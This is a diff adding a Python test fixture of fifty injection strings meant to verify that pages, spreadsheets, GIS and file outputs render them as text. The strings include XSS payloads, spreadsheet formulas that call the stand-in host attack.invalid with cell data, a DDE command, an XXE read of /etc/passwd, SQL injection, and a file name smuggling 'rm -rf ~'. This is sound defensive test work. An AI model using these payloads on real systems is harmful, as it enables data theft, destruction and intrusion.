@@ -1,0 +1,61 @@
+"""Texts that a page, a spreadsheet, a GIS or a file system might run instead of showing; all must come out as text."""
+
+#: Fifty attacks, each unique. Tests put them into reports and look for text, and nothing but text, in every product.
+ATTACKS = (
+    # pages: a script, an event handler, a request
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script>",
+    "<img src=x onerror=alert(3)>",
+    "<svg onload=alert(4)><circle r=9></svg>",
+    "\"><iframe srcdoc='<script>alert(5)</script>'></iframe>",
+    "' onmouseover='alert(6)' x='",
+    "javascript:alert(7)",
+    '<a href="java\tscript:alert(8)">map</a>',
+    "<style>@import 'http://attack.invalid/a.css';</style>",
+    "<link rel=stylesheet href=http://attack.invalid/b.css>",
+    '<meta http-equiv="refresh" content="0;url=http://attack.invalid/">',
+    "<!-- --!><script>alert(12)</script> -->",
+    "<!--<script>",
+    "&lt;script&gt;alert(14)&lt;/script&gt;",
+    "&#60;script&#62;alert(15)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(16)\\u003c/script\\u003e",
+    "<div style=\"background:url('http://attack.invalid/c.png')\">x</div>",
+    "<form action=http://attack.invalid><input autofocus onfocus=alert(18)></form>",
+    # templates and formats of programs
+    "{{7*7}}",
+    "{% for x in (1, 2) %}{{ x }}{% endfor %}{% raw %}",
+    "${alert(21)} `${alert(21)}`",
+    "{0.__class__} %(notice)s %s %n %",
+    "[% @project_path %] [% eval('1+1') %]",
+    "$[description] $[geDirections]",
+    # spreadsheets: a formula
+    '=HYPERLINK("http://attack.invalid/?"&A1;"open")',
+    "=1+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    '\n=WEBSERVICE("http://attack.invalid")',
+    "fell;=1+1",
+    "＝1+1",
+    # markup of files
+    "<![CDATA[x]]>",
+    "]]><Placemark><name>alert</name></Placemark><![CDATA[",
+    '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
+    "&amp;&quot;&apos;&nbsp;&notanentity;&#0;",
+    '<?xml version="1.0"?><?php echo 1 ?>',
+    # characters that readers stumble over
+    "nul \x00 bell \x07 escape \x1b[31m delete \x7f",
+    "page\x0cfeed vertical\x0btab next\x85line para\u2029line\u2028end",
+    "right \u202eot tfel\u202c isolate \u2067abc\u2069 mark \u200f",
+    "zero\u200bwidth \ufeffmark _x003D_ _x000D_",
+    "not a character \ufffe\uffff\ufdd0",
+    "e\u0301 a\u030a 💣🏽 \U000e0041\U000e0042",
+    # databases, paths, size
+    "'; DROP TABLE zones; --",
+    '" OR ""="',
+    "../../../../etc/passwd",
+    "C:\\CON\\..\\nul.kml|del *.* & rm -rf ~",
+    "long " + "<b>Ж\"'&=" * 5000,
+)
